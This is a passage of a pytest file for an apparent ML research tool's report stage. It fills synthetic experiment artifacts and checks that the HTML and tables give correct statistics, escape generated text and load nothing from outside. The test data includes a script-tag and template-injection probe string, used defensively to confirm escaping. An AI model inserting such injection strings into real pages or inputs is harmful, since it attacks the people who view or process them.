"""The report of synthetic artifacts: numbers that can be computed by hand, and data that may be missing."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import re
import sys
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import pytest
import statsmodels.api
from matplotlib.figure import Figure

from conftest import policy_of
from d2o import identities, length_control, records, report, schemas, settings
from d2o.errors import D2OError
from d2o.metrics import HUMAN_METRICS, SCORED, _judged
from d2o.positives import sheet
from d2o.report import figures, page, tables
from d2o.settings import Model, Source

PROMPTS = 12
KINDS = ("leak", "near leak")
# Questions that occur in train prompts: subject, number, kind.
LEAKED = [("law", 0, "near leak"), ("law", 29, "leak"), ("maths", 9, "leak")]
# The judge's verdicts on the first prompts in one order; else it prefers the method.
OPENING = {0: "tie", 1: "unread", 2: "initial"}
# The agreement of a reward model that knows only the prompts.
AGREEMENT = {"auc": 0.88, "auc_low": 0.84, "auc_high": 0.92, "auc_n": 96}
AGREEMENT |= {"pair_accuracy": 0.51, "pair_accuracy_low": 0.44, "pair_accuracy_high": 0.58, "pair_accuracy_n": 90}
NASTY = '<script>alert("x")</script> & <b>bold</b> {{ 7 * 7 }}'


def config(**experiment) -> settings.Settings:
    """An experiment `demo` on one data set and model; keys given replace those of the full one."""
    full = {
        "datasets": ["pku"],
        "models": ["smol"],
        "methods": ["initial", "d2o", "dpo"],
        "seeds": [0, 1],
        "rewards": ["harm", "cost"],
        "judges": ["gpt"],
        "tasks": ["mmlu"],
    }
    return settings.load(
        {
            "experiments": {"demo": full | experiment},
            "models": {"smol": {"path": "smol"}, "unused-model": {"path": "other"}},
            "datasets": {"pku": {"format": "pku-saferlhf", "train": ["pku.jsonl"]}},
            "methods": {
                "d2o": {"loss": "d2o", "positives": "self", "negatives": True, "k": 4},
                "d2o-online": {
                    "extends": "d2o",
                    "train": {"steps": 30},
                    "online": {"start": 10, "every": 10, "share": 0.5},
                },
                "d2o-best": {"extends": "d2o", "k": 2, "filter": {"reward": "harm", "best": 2}},
                "d2o-steps": {"extends": "d2o", "train": {"snapshots": [20, 10]}},
                "d2o-steps-k2": {"extends": "d2o-steps", "k": 2},
                "dpo-ori": {"extends": "dpo"},
                "dpo": {"loss": "dpo", "positives": "human", "negatives": True},
                "npo": {"loss": "npo", "negatives": True},
            },
            "rewards": {
                "harm": {"train": {"backbone": "smol"}},
                "cost": {"source": {"path": "beaver"}, "better": "lower", "safe_at": 5.0},
            },
            "judges": {"gpt": {"base_url": "http://localhost/v1", "model": "gpt"}},
            "tasks": {"mmlu": {"path": "mmlu.zip"}},
        },
        "test",
    ).only("demo")


def write(path: Path, schema, rows, **facts) -> None:
    with records.artifact(path) as draft:
        draft.facts |= facts
        records.write_table(draft.path, schema, rows)


class Results:
    """Artifacts of an experiment as the other stages would leave them."""

    def __init__(
        self, root: Path, chosen: settings.Settings, *, positives=True, evaluation=0, prompts=PROMPTS, leaked=LEAKED
    ):
        self.root, self.settings, self.leaked = root, chosen, leaked
        self.rng = np.random.default_rng(0)
        (self.experiment,) = chosen.experiments.values()
        self.messages = [[{"role": "user", "content": f"Question {i}?"}] for i in range(prompts + evaluation)]
        self.messages[0][0]["content"] += NASTY
        self.ids = [identities.prompt_id(m) for m in self.messages]
        self.origins = ["test"] * prompts + ["xstest.csv"] * evaluation
        self.human = [
            {
                "prompt_id": prompt,
                "split": "test" if i < prompts else "train",
                "messages": messages,
                "negative": f"bad {i}",
                "positive": f"good {i}" if positives else None,
                "positive_unsafe": bool(i % 2) if positives else None,
                "categories": ["$\\frac{$ Cybercrime", "Drugs"][: i % 3],
                "severity": i % 3 + 1,
            }
            for i, (prompt, messages) in enumerate(zip(self.ids, self.messages, strict=True))
        ]
        for dataset in self.experiment.datasets:
            self._dataset(root / dataset)
            for model in self.experiment.models:
                self._pool(
                    root / dataset / "negatives.parquet", root / dataset / model / "positives/corrected-k4.parquet"
                )
                for method in self.experiment.methods:
                    for seed in self.experiment.seeds[:1] if method == "initial" else self.experiment.seeds:
                        folder = root / dataset / model / method / f"seed{seed}"
                        self._run(folder, method, seed)
                        for number in (1, 2) if method == "d2o-online" else ():
                            self._pool(
                                root / dataset / "negatives.parquet", folder / f"rounds/{number}/positives.parquet"
                            )
                        for step in [10, 20] if method.startswith("d2o-steps") else []:
                            self._measured(folder / f"step{step}", trained=True)

    def _dataset(self, folder: Path) -> None:
        counts = {
            "rows": 40,
            "unsafe_positives": {"negatives": 0.25, "pairs": 0.375},
            "leaks": {"prompts": 3, "test": 2},
            "train_categories": {"$\\frac{$ Drugs": 4},
        }
        write(folder / "negatives.parquet", schemas.NEGATIVES, self.human, counts=counts)
        rows = [
            {"prompt_id": p, "messages": m, "origin": o}
            for p, m, o in zip(self.ids, self.messages, self.origins, strict=True)
        ]
        write(folder / "prompts.parquet", schemas.PROMPTS, rows)
        for task in self.experiment.tasks:
            leaks = [
                {"subject": s, "question": q, "prompt": f"said {q}{NASTY}", "kind": kind, "similarity": 1.0}
                for s, q, kind in self.leaked
            ]
            kinds = {f"{kind}s".replace(" ", "_"): sum(kind == k for *_, k in self.leaked) for kind in KINDS}
            examples = [leak | {"question": "asked" + NASTY} for leak in leaks[:2]]
            counts = {"questions": 40} | kinds
            write(folder / f"leaks/{task}.parquet", schemas.LEAKS, leaks, counts=counts, examples=examples)
        for reward in self.experiment.rewards:
            trained = self.settings.rewards[reward].train
            target = folder / "rewards" / reward if trained else self.root / "rewards" / reward
            with records.artifact(target) as draft:
                draft.path.mkdir()
                if trained:
                    draft.facts |= AGREEMENT

    def _pool(self, prompts: Path, path: Path) -> None:
        fit = {"attempt": 0, "flags": [], "usable": True}
        pool = [self._sample(p, k, ["considerate", "honest"][k % 2]) | fit for p in self.ids for k in range(4)]
        pool[1] |= {"attempt": 2, "flags": ["repeating", "truncated"], "usable": False}
        write(path, schemas.POOL, pool)
        description = sheet.describe(path, prompts, settings.Positives(k=4)) | {"long_prompts": 1}
        records.write_json(path.with_suffix(".sheet.json"), description)

    def _sample(self, prompt: str, k: int, instruction: str | None = None, text: str = "one two one two") -> dict:
        return {
            "prompt_id": prompt,
            "sample": k,
            "instruction": instruction,
            "seed": k,
            "text": text,
            "tokens": 8,
            "finish": "stop" if k else "length",
        }

    def _run(self, folder: Path, method: str, seed: int) -> None:
        trained = method != "initial"
        if trained:
            lines = [
                {
                    "step": i + 1,
                    "epoch": (i + 1) / 30,
                    "loss": 0.69 * 0.95**i,
                    "margin": 0.2 * i,
                    "seconds": 2.5,
                    "tokens_per_second": 800.0,
                    "memory_gb": 1.5,
                }
                | ({"positive_shift": -0.01 * i, "negative_shift": -0.02 * i} if i % 10 == 0 else {})
                for i in range(30)
            ]
            with records.artifact(folder / "model") as draft:
                draft.path.mkdir()
                draft.facts |= {"pool": "corrected-k4", "reference_noise": None if method == "sft" else 0.0123}
                draft.facts |= {"groups": 1234} | ({"short_groups": 57} if method == "d2o" else {})
            with records.artifact(folder / "train.jsonl") as draft:
                draft.path.write_text("".join(json.dumps(line) + "\n" for line in lines))
        self._measured(folder, trained)
        for judge in self.experiment.judges if trained else []:
            rows = [
                {"prompt_id": p, "order": order, "verdict": verdict, "reason": "so", "longer": i}
                for i, p in enumerate(self.ids)
                for order, verdict in (("initial-first", OPENING.get(i, "method")), ("method-first", "method"))
            ]
            write(folder / f"judge/{judge}.parquet", schemas.VERDICTS, rows)

    def _measured(self, folder: Path, trained: bool) -> None:
        """Write the artifacts that a model and its snapshots have in common."""
        texts = ["I’m sorry, I can’t help." if trained else "Sure, " + NASTY for _ in self.ids]
        answers = [self._sample(p, 0, None, t) for p, t in zip(self.ids, texts, strict=True)]
        write(folder / "responses.parquet", schemas.SAMPLES, answers)
        # Per token: negatives −2 under the initial model and −3 later; positives −1 and −1.5.
        logprobs = []
        for row in self.human:
            for text, start, end in ((row["negative"], -20, -30), (row["positive"], -10, -15)):
                if text is not None and row["split"] == "test":
                    identity = identities.response_id(row["prompt_id"], text)
                    logprob = float(end if trained else start)
                    logprobs.append((row["prompt_id"], identity, logprob, 10))
        rows = [dict(zip(schemas.LOGPROBS.names, row, strict=True)) for row in logprobs]
        write(folder / "heldout_logprobs.parquet", schemas.LOGPROBS, rows)
        for reward in self.experiment.rewards:
            shift = {"harm": 0.0, "cost": -1.0}[reward] if trained else 0.0
            rows = [
                {"prompt_id": p, "sample": 0, "score": i + shift + 0.01 * self.rng.normal()}
                for i, p in enumerate(self.ids)
            ]
            write(folder / f"scores/{reward}.parquet", schemas.SCORES, rows)
        for task in self.experiment.tasks:
            rows = [
                {"subject": s, "question": q, "value": float(q < right)}
                for s, n, right in (("law", 30, 6), ("maths", 10, 8))
                for q in range(n)
            ]
            write(
                folder / f"tasks/{task}.parquet",
                schemas.TASK_VALUES,
                rows,
                metric="acc",
                better="higher",
                bos=True,
                subjects={"law": 0.2, "maths": 0.8},
            )


class Page(HTMLParser):
    """Parses a page: checks that its tags are closed in order, and collects its text."""

    VOID = frozenset({"meta", "link", "br", "img", "input"})

    def __init__(self, text: str):
        super().__init__()
        self.open, self.seen, self.links, self.text = [], [], [], ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.seen.append(tag)
        self.links += [value for key, value in attrs if key in ("href", "src") and value]
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.seen.append(tag)

    def handle_endtag(self, tag):
        if tag not in self.VOID:
            assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data


def made(tmp_path: Path, chosen: settings.Settings, **kind) -> tuple[Path, Page, dict]:
    """The report's folder, its page, and its table as {(method, metric, prompts): row}."""
    Results(tmp_path, chosen, **kind)
    output = tmp_path / "reports/demo/report.html"
    report.write(chosen, tmp_path, output)
    for name in (
        "table.csv",
        "table.md",
        "table.tex",
        "figures/methods.svg",
        "figures/training.svg",
        "figures/methods.png",
    ):
        assert (output.parent / name).stat().st_size > 100
    for name in ("methods", "training"):
        ElementTree.parse(output.parent / f"figures/{name}.svg")
    page = Page(output.read_text())
    assert not page.open
    snapshots = "d2o-steps" in next(iter(chosen.experiments.values())).methods
    assert (output.parent / "figures/course.svg").exists() == snapshots == ("step 0 is" in page.text)
    with (output.parent / "table.csv").open() as file:
        table = {
            (row["method"], row["metric"], row["prompts"]): row
            for row in csv.DictReader(file)
            if row["seed"] == "all"
        }
    return output.parent, page, table


BLANK = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="72pt" height="72pt" viewBox="0 0 72 72"><g id="figure_1"/></svg>'
)


@pytest.fixture(autouse=True)
def undrawn(request, monkeypatch):
    """A report made in one test has blank figures, and with the fixture `svgs` real SVG files alone; reports that
    tests share are made before, and have all."""
    draw, real = figures.render, "svgs" in request.fixturenames

    def render(figure: Figure, kind: str) -> bytes:
        return draw(figure, kind) if kind == "svg" and real else BLANK.ljust(200)

    monkeypatch.setattr(figures, "render", render)


@pytest.fixture
def svgs():
    """For tests that look into the figures of a report that they make."""


@pytest.fixture(scope="module")
def full(tmp_path_factory):
    return made(tmp_path_factory.mktemp("full"), config(), evaluation=5)


def value(row: dict, *keys: str) -> list[float]:
    return [round(float(row[key]), 2) for key in keys]


def test_numbers_are_those_of_the_artifacts(full):
    _, _, table = full
    change = ("difference", "difference_low", "difference_high")
    assert value(table["initial", "human/negative_logprob", "test"], "mean", "n") == [-2, PROMPTS]
    assert value(table["d2o", "human/negative_logprob", "test"], "mean", *change) == [-3, -1, -1, -1]
    assert value(table["d2o", "human/positive_logprob", "test"], "mean", *change) == [-1.5, -0.5, -0.5, -0.5]
    assert value(table["d2o", "human/safe_positive_logprob", "test"], "n") == [PROMPTS / 2]
    assert value(table["d2o", "human/margin", "test"], "mean", "difference") == [1.5, 0.5]
    # Positives lose 0.5 nats per token and negatives 1: every pair is ordered.
    assert value(table["d2o", "human/implicit_accuracy", "test"], "mean", "difference") == [1, 0.5]
    assert ("initial", "human/implicit_accuracy", "test") not in table
    # 24 verdicts with one tie, one unread, one loss; the orders disagree on two of the 11 prompts with two verdicts.
    judged = {
        "win_rate": 21.5 / 23, "decided": 21 / 22, "wins": 21 / 24, "ties": 1 / 24, "losses": 1 / 24,
        "unread": 1 / 24, "disagreement": 2 / 11,
    }  # fmt: skip
    for key, share in judged.items():
        assert float(table["d2o", f"judge/gpt/{key}", "test"]["mean"]) == pytest.approx(share, abs=1e-5), key
    # For every model three of 40 questions are left out, one of them answered correctly.
    for method in ("initial", "d2o"):
        assert value(table[method, "task/mmlu/acc", ""], "mean", "n") == [round(13 / 37, 2), 37]
        assert value(table[method, "task/mmlu/acc_by_subject", ""], "mean") == [round((5 / 28 + 8 / 9) / 2, 2)]
    assert value(table["initial", "answers/refusal", "test"], "mean") == [0]
    assert value(table["d2o", "answers/refusal", "test"], "mean", "n") == [1, PROMPTS]


def test_questions_that_train_prompts_say_are_counted_and_shown(full):
    _, page, _ = full
    assert "mmlu: 3 of 40 questions left out of the results, for train prompts say them: 2 exactly, 1 nearly" in (
        " ".join(page.text.split())
    )
    assert f"said 0{NASTY}asked{NASTY}" in page.text and f"said 29{NASTY}" in page.text


def test_where_train_prompts_say_every_question_a_task_has_no_value(tmp_path):
    every = [(s, q, "leak") for s, n in (("law", 30), ("maths", 10)) for q in range(n)]
    _, page, table = made(tmp_path, config(), leaked=every)
    assert "40 of 40 questions left out" in page.text
    assert not any(metric.startswith("task/") for _, metric, _ in table)


@pytest.mark.parametrize(("number", "length"), [(4, 8), (35, 8), (24, 60), (200, 12)])
def test_a_legend_leaves_room_to_the_axes_and_stays_in_the_figure(number, length):
    names = [(f"m{n}-" + "method-" * 9)[:length] for n in range(number)]
    figure, [(part, [axis])] = figures.grid_of(["a, b"], [[0]], 0.75, 2.6)
    figures.legend(part, {name: axis.plot([0, 1], [0, n])[0] for n, name in enumerate(names)}, names)
    figure.draw_without_rendering()
    (box,) = [legend.get_window_extent() for legend in part.legends]
    assert box.x0 >= 0 and box.x1 <= figure.bbox.width and box.y0 >= 0 and box.y1 <= axis.get_window_extent().y0
    assert axis.get_window_extent().height / figure.dpi > 1.8


def test_methods_that_are_too_many_for_tables_of_pairs_are_in_a_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "MOST_METHODS", 2)
    folder, page, _ = made(tmp_path, config(methods=["initial", "d2o", "dpo"], judges=[], tasks=[]))
    assert "3 methods are too many for tables of every method" in page.text
    assert "every method against every other, " not in page.text
    assert (folder / "comparisons.csv").read_text().count("\n") > 1


def test_a_model_that_loses_the_same_on_every_token_orders_no_pair(tmp_path):
    """Whatever the lengths: positives of 30 tokens, negatives of 7."""
    chosen = config(methods=["initial", "d2o"], seeds=[0], rewards=[], judges=[], tasks=[])
    made = Results(tmp_path, chosen)
    for method, fall in (("initial", 0.0), ("d2o", 0.1)):
        rows = [
            {"prompt_id": row["prompt_id"], "response_id": identities.response_id(row["prompt_id"], row[side]),
             "logprob": -1.7 * tokens - 0.01 * i - fall * tokens, "tokens": tokens}
            for i, row in enumerate(made.human) for side, tokens in (("positive", 30), ("negative", 7))
        ]  # fmt: skip
        write(tmp_path / f"pku/smol/{method}/seed0/heldout_logprobs.parquet", schemas.LOGPROBS, rows)
    output = tmp_path / "reports/demo/report.html"
    report.write(chosen, tmp_path, output)
    rows = csv.DictReader((output.parent / "table.csv").open())
    [accuracy] = [row for row in rows if row["metric"] == "human/implicit_accuracy"]
    assert value(accuracy, "mean", "low", "high", "difference") == [0.5, 0.5, 0.5, 0]


def test_verdicts_that_cannot_be_read_move_no_win_rate():
    """A judge that prefers the method four times in five, and 10 % of whose replies are cut off."""
    verdicts = ["method"] * 72 + ["initial"] * 18 + ["unread"] * 10
    rows = pd.DataFrame({"verdict": verdicts, "prompts": "test", "longer": 0})
    means = {metric.key.removeprefix("judge/gpt/"): metric.of(rows).mean() for metric in _judged("gpt")[:-1]}
    assert means["win_rate"] == means["decided"] == 0.8 and means["unread"] == 0.1
    assert means["length_controlled"] == pytest.approx(0.8)
    assert sum(means[key] for key in ("wins", "ties", "losses", "unread")) == pytest.approx(1)


def test_a_judge_of_length_alone_is_neutral_at_equal_length():
    """Its raw win rate is far from one half for a method that writes more; the interval matches repeated fits."""
    rng = np.random.default_rng(0)
    longer = rng.normal(50, 100, 400)
    wins = (rng.random(400) < 1 / (1 + np.exp(-2 * np.tanh(longer / longer.std())))).astype(float)
    values = length_control.values(wins, longer)
    assert wins.mean() > 0.6 and abs(values.mean() - 0.5) < 0.05

    inputs = statsmodels.api.add_constant(np.tanh(longer / longer.std()))
    fit = statsmodels.api.GLM(wins, inputs, family=statsmodels.api.families.Binomial()).fit()
    assert values.mean() == pytest.approx(1 / (1 + np.exp(-fit.params[0])), abs=0.003)

    drawn = rng.integers(400, size=(500, 400))
    fits = [length_control.values(wins[rows], longer[rows]).mean() for rows in drawn]
    assert values[drawn].mean(1).std() == pytest.approx(np.std(fits), rel=0.05)


@pytest.mark.parametrize(
    ("wins", "longer", "rate"),
    [
        ([1.0] * 24, range(24), 1),
        ([0.0] * 24, range(24), 0),
        ([0.5] * 9, range(9), 0.5),
        ([1.0], [7], np.nan),  # always the longer one: length cannot be separated from the rest
        ([1.0, 0, 0, 0], [0] * 4, 0.25),
        ([1.0, 0, 0, 0], [9, 8, 7, 9], np.nan),
        ([0.0] * 10 + [1.0] * 10, [*range(-10, 0), *range(1, 11)], 0.5),  # length alone decides
    ],
)
def test_length_control_has_an_answer_where_the_fit_has_none(wins, longer, rate):
    values = length_control.values(np.array(wins), np.array(longer, float))
    assert values.mean() == pytest.approx(rate, abs=1e-6, nan_ok=True)
    assert len(length_control.values(np.array([]), np.array([]))) == 0


def test_the_direction_of_a_reward_decides_the_sign(tmp_path):
    folder, _, table = made(tmp_path, config(seeds=[0], judges=[]))
    row = table["d2o", "reward/cost", "test"]
    # Scores range over 0 … 11, so only the paired difference shows the shift by −1.
    assert float(row["low"]) < float(table["initial", "reward/cost", "test"]["mean"]) < float(row["high"])
    assert value(row, "difference") == pytest.approx([-1], abs=0.02) and row["better"] == "lower"
    lines = folder.joinpath("table.md").read_text().splitlines()
    # The scores are 0 … 11 and a little noise; 5 may fall on either side of 5.
    assert float(table["initial", "reward/cost/safe", "test"]["mean"]) in (5 / 12, 6 / 12)
    assert float(table["d2o", "reward/cost/safe", "test"]["mean"]) == pytest.approx(6.5 / 12, abs=0.5 / 12 + 1e-5)
    assert table["d2o", "reward/cost/safe", "test"]["better"] == "higher"
    assert ("d2o", "reward/harm/safe", "test") not in table
    header = next(line for line in lines if line.startswith("| method"))
    column = [cell.strip() for cell in header.split("|")].index("cost\u00a0↓")
    cells = {c[1].strip(): c[column] for line in lines if len(c := line.split("|")) > column}
    assert "▲" in cells["d2o"] and "▲" not in cells["initial"]


def test_each_seed_has_its_line_and_one_seed_says_so_everywhere(tmp_path, full):
    folder, page, _ = full
    with (folder / "table.csv").open() as file:
        rows = [row for row in csv.DictReader(file) if row["metric"] == "reward/cost" and row["prompts"] == "test"]
    lines = {(row["method"], row["seed"]): row for row in rows}
    assert lines.keys() == {("initial", "all")} | {(m, s) for m in ("d2o", "dpo") for s in ("all", "0", "1")}
    means = [float(lines["d2o", seed]["mean"]) for seed in ("0", "1", "all")]
    assert means[0] != means[1] and means[2] == pytest.approx((means[0] + means[1]) / 2, abs=1e-5)
    assert lines["d2o", "all"]["interval"] == "over seeds and prompts"
    assert lines["d2o", "0"]["interval"] == "over prompts only" and lines["d2o", "0"]["difference"] == ""
    assert "over seeds and prompts (2 trainings" in page.text

    one, page, table = made(tmp_path, config(seeds=[0], judges=[], tasks=[]))
    assert {row["interval"] for row in table.values()} == {"over prompts only"}
    texts = [(one / name).read_text() for name in ("table.md", "table.tex")] + [page.text]
    assert all("95 % over prompts only" in text.replace("\\", "") for text in texts)


def test_methods_are_compared_with_each_other(tmp_path):
    chosen = config(comparisons=[("dpo", "d2o")], methods=["initial", "d2o", "dpo", "npo"], judges=[], tasks=[])
    folder, page, _ = made(tmp_path, chosen)
    with (folder / "comparisons.csv").open() as file:
        rows = [row for row in csv.DictReader(file) if row["metric"] == "reward/cost"]
    assert [(row["method"], row["other"], row["kind"]) for row in rows] == [
        ("dpo", "d2o", "primary"), ("d2o", "npo", "exploratory"), ("dpo", "npo", "exploratory"),
    ]  # fmt: skip
    table = pd.DataFrame(rows).astype({"p": float, "p_adjusted": float, "difference": float})
    # One primary comparison needs no correction; the two others are adjusted together.
    assert table["p_adjusted"][0] == table["p"][0]
    assert (table["p_adjusted"][1:] >= table["p"][1:]).all() and table["p_adjusted"][1:].max() > table["p"][1:].min()
    assert table["n"].unique().tolist() == [str(PROMPTS)] and table["difference"].abs().max() < 0.02
    text = " ".join(page.text.split())
    assert "Primary comparisons: dpo against d2o" in text and "dpo − d2o" in (folder / "table.md").read_text()
    assert "every method against every other" in text and "undecided" in text


def test_methods_are_compared_on_the_prompts_that_both_answered():
    place = {"dataset": "pku", "model": "smol", "metric": "human/margin", "prompts": "test", "stratum": ""}
    rows = [
        place | {"method": method, "seed": 0, "cluster": f"p{i}", "value": i + shift}
        for method, shift, prompts in (("d2o", 1.0, range(6)), ("dpo", 0.0, range(2, 9)))
        for i in prompts
    ]
    metrics = {m.key: m for m in HUMAN_METRICS}
    experiment = config(methods=["d2o", "dpo"], comparisons=[("d2o", "dpo")]).experiments["demo"]
    [row] = tables.comparisons(pd.DataFrame(rows), metrics, experiment).to_dict("records")
    assert (row["n"], row["difference"], row["kind"]) == (4, 1, "primary")
    assert row["p"] == 0.125 and row["effect_size"] == pytest.approx(1 / np.std([2, 3, 4, 5], ddof=1))


def test_validation_prompts_are_chosen_by_and_nothing_is_told_on_them(tmp_path):
    chosen = config(judges=[], tasks=[])
    made = Results(tmp_path, chosen)
    for row in made.human[:5]:
        row["split"] = "validation"
    rows = [
        {"prompt_id": p, "messages": m, "origin": "validation" if i < 5 else "test"}
        for i, (p, m) in enumerate(zip(made.ids, made.messages, strict=True))
    ]
    write(tmp_path / "pku/prompts.parquet", schemas.PROMPTS, rows)
    write(tmp_path / "pku/negatives.parquet", schemas.NEGATIVES, made.human, counts={})
    report.write(chosen, tmp_path, tmp_path / "reports/demo/report.html")
    table, compared = (frame(tmp_path / f"reports/demo/{name}.csv") for name in ("table", "comparisons"))
    held = table[table["prompts"] == "validation"]
    # Also for a metric that is compared with a number.
    assert {"reward/cost", "human/implicit_accuracy"} < set(held["metric"])
    assert held[["difference", "p", "p_adjusted"]].isna().all(axis=None)
    (packed,) = re.findall(r'id="packed">([^<]*)<', (tmp_path / "reports/demo/report.html").read_text())
    shown = json.loads(gzip.decompress(base64.b64decode(packed)))["sets"][0]["prompts"]
    assert {prompt[0] for prompt in shown} == set(made.ids[5:])
    assert set(compared["prompts"]) == {"test"}


def test_what_failed_has_its_row_and_the_rest_stands(tmp_path):
    chosen = config(
        methods=["initial", "d2o", "dpo", "npo"],
        failed={"npo": "diverged at step 40", "dpo/seed1": "disk full"},
        judges=[],
        tasks=[],
    )
    folder, page, table = made(tmp_path, chosen)
    assert ("npo", "reward/cost", "test") not in table and table["dpo", "reward/cost", "test"]["seeds"] == "1"
    assert table["dpo", "reward/cost", "test"]["interval"] == "over prompts only"
    text = (folder / "table.md").read_text()
    assert "| npo (failed)" in text and "npo failed: diverged at step 40." in text
    assert "dpo/seed1 failed: disk full." in page.text and "npo (failed)" in page.text
    # One training of dpo is left, which every table states.
    assert "Of dpo there is one training: over prompts only" in text and "Of dpo there is one training" in page.text


def test_wrong_comparisons_and_failures_are_told_with_the_config():
    for wrong, message in (
        ({"comparisons": [("d2o", "dpoo")]}, "comparisons: 'dpoo' is not among the methods; did you mean 'dpo'?"),
        ({"comparisons": [("d2o", "d2o")]}, "comparisons: d2o is compared with itself"),
        ({"comparisons": [("d2o", "dpo"), ("dpo", "d2o")]}, "comparisons: dpo and d2o are compared twice"),
        ({"methods": ["initial", "d2o"], "shows": ["table2"]}, "shows: table2 compares trained methods"),
        ({"failed": {"d2o/seed7": "?"}}, "failed.d2o/seed7: no such method or training; did you mean 'd2o/seed"),
    ):
        with pytest.raises(D2OError, match=re.escape(f"experiments.demo.{message}")):
            config(**wrong)


def test_answers_to_other_prompts_are_not_pooled_with_the_test_split(full):
    _, page, table = full
    assert value(table["d2o", "reward/harm", "test"], "n") == [PROMPTS]
    assert value(table["d2o", "reward/harm", "xstest.csv"], "n") == [5]
    assert "xstest.csv" in page.text


def test_the_page_says_what_its_evidence_is_worth(full):
    _, page, _ = full
    text = " ".join(page.text.split())
    assert "it reaches pair accuracy 0.51 [0.44, 0.58], n = 90; AUC 0.88 [0.84, 0.92], n = 96 (0.5 is chance)" in text
    assert "Scores of harm are weak evidence" in text and "Scores of cost are weak" not in text
    assert "12 prompts of the test split" in text
    assert "mmlu acc, % ↑n = 37 prompts with BOS token" in text
    html = full[0].joinpath("report.html").read_text()
    assert 'class="worse">−0.20<' in html  # the last value of the probe's positives, after 20 of 30 steps
    assert "<td>0.012</td>" in html  # noise of the references
    assert "<td>1,234</td><td>57</td>" in html  # groups, and those with fewer than K positives
    assert "<td>1,234</td><td>–</td>" in html
    assert "unused-model" not in text
    assert "Drugs 4" in text and "negatives 25.0 %, pairs 37.5 %" in text


@pytest.mark.parametrize(
    ("facts", "told"),
    [
        ({"pair_accuracy": 0.8, "auc": 0.6}, None),
        ({"pair_accuracy": 0.74, "auc": 0.9}, "it reaches pair accuracy 0.74 [0.44, 0.58], n = 90; AUC 0.90"),
        ({"pair_accuracy": None, "auc": 0.9}, "no held-out human pairs to check them by (AUC 0.90 [0.84, 0.92]"),
        ({"pair_accuracy": None, "auc": None}, "no held-out human pairs to check them by."),
    ],
)
def test_what_a_reward_model_is_worth_is_told_by_pairs_of_one_prompt(tmp_path, monkeypatch, facts, told):
    monkeypatch.setattr(sys.modules[__name__], "AGREEMENT", AGREEMENT | facts)
    _, page, _ = made(tmp_path, config(methods=["initial"], judges=[], tasks=[]))
    text = " ".join(page.text.split())
    assert (told in text) if told else ("weak evidence" not in text)


def test_the_page_needs_nothing_from_outside(full):
    folder, page, _ = full
    html = folder.joinpath("report.html").read_text()
    # Data, which no browser runs, and one script that the policy names by its digest.
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", html, re.DOTALL)
    assert [kind for kind, _ in scripts] == [' type="text/plain" id="packed"', ""]
    (style,) = re.findall(r"<style>(.*?)</style>", html, re.DOTALL)
    assert f'Content-Security-Policy" content="{policy_of(scripts[1][1], style)}"' in html
    assert not re.search(r"<[^>]*\s(style|on\w+)=", html.replace(scripts[1][0], "")), "the policy forbids them"
    assert all(link.startswith("#") or (folder / link).exists() for link in page.links)
    assert not re.search(r"@import|url\((?!#)", html)
    ids = re.findall(r'\bid="([^"]+)"', html)
    assert len(ids) == len(set(ids))
    targets = re.findall(r'url\(#([^)]+)\)|href="#([^"]+)"', html)
    # A fragment that contains `=` is for the answer browser.
    assert {a or b for a, b in targets if "=" not in b} <= set(ids)


def test_generated_text_is_shown_as_text(full):
    folder, _, _ = full
    html = folder.joinpath("report.html").read_text()
    assert html.count("<script>") == 1 and "<b>bold</b>" not in html
    packed = re.search(r'id="packed">([^<]*)<', html)[1]
    told = json.loads(gzip.decompress(base64.b64decode(packed)))["texts"]
    assert told.count("Sure, " + NASTY) == 1 and "Question 0?" + NASTY in told


def test_every_file_has_a_manifest_and_the_page_names_its_inputs(full):
    folder, _, _ = full
    inputs = records.read_manifest(folder / "report.html")["inputs"]
    for name in ("d2o/seed1/responses.parquet", "d2o/seed1/train.jsonl", "initial/seed0/heldout_logprobs.parquet"):
        assert any(path.endswith(name) for path in inputs)
    assert records.read_manifest(folder / "figures/methods.svg")["settings"]["experiments"]["demo"]


def test_the_same_artifacts_give_the_same_files(tmp_path, svgs):
    chosen = config(methods=["initial", "npo"], seeds=[0], judges=[], tasks=[])
    folder, _, _ = made(tmp_path, chosen)
    first = {
        path.name: path.read_bytes() for path in folder.rglob("*") if "manifest" not in path.name and path.is_file()
    }
    report.write(chosen, tmp_path, folder / "report.html")
    assert first == {name: next(folder.rglob(name)).read_bytes() for name in first}


def test_snapshots_are_plotted_against_their_steps(tmp_path, svgs):
    """From the initial model to the final one, in order of the steps, the seeds pooled; methods without none."""
    folder, page, _ = made(tmp_path, config(methods=["initial", "dpo", "d2o-steps"], judges=[], tasks=["mmlu"]))
    with (folder / "course.csv").open() as file:
        rows = list(csv.DictReader(file))
    assert {row["method"] for row in rows} == {"d2o-steps"}
    course = {metric: [(int(r["step"]), float(r["mean"])) for r in rows if r["metric"] == metric] for metric in
              ("reward/cost", "human/negative_logprob", "human/positive_logprob", "task/mmlu/acc")}  # fmt: skip
    assert course["task/mmlu/acc"] == [(step, 0.351351) for step in (0, 10, 20, 30)]  # 13 of 37, 3 left out
    assert course["human/negative_logprob"] == [(0, -2), (10, -3), (20, -3), (30, -3)]
    assert course["human/positive_logprob"] == [(0, -1), (10, -1.5), (20, -1.5), (30, -1.5)]
    assert [step for step, _ in course["reward/cost"]] == [0, 10, 20, 30]
    assert course["reward/cost"][1][1] - course["reward/cost"][0][1] == pytest.approx(-1, abs=0.02)
    assert {row["metric"] for row in rows} == {*course, "reward/harm", "answers/tokens", "answers/distinct_2"}
    assert all(float(row["low"]) <= float(row["mean"]) for row in rows)
    assert {int(row["n"]) for row in rows if row["metric"] != "task/mmlu/acc"} == {PROMPTS}
    for name in ("course", "distributions"):
        sampled = (folder / f"figures/{name}.svg").read_text()
        assert "cost" in sampled and "d2o-steps" in sampled and "dpo" not in sampled
    assert "step 0 is the initial model" in page.text and "course.csv" in page.links


def test_a_collapsed_model_does_not_flatten_the_others_log_probs():
    one, other = (metric.key for metric in HUMAN_METRICS[:2])
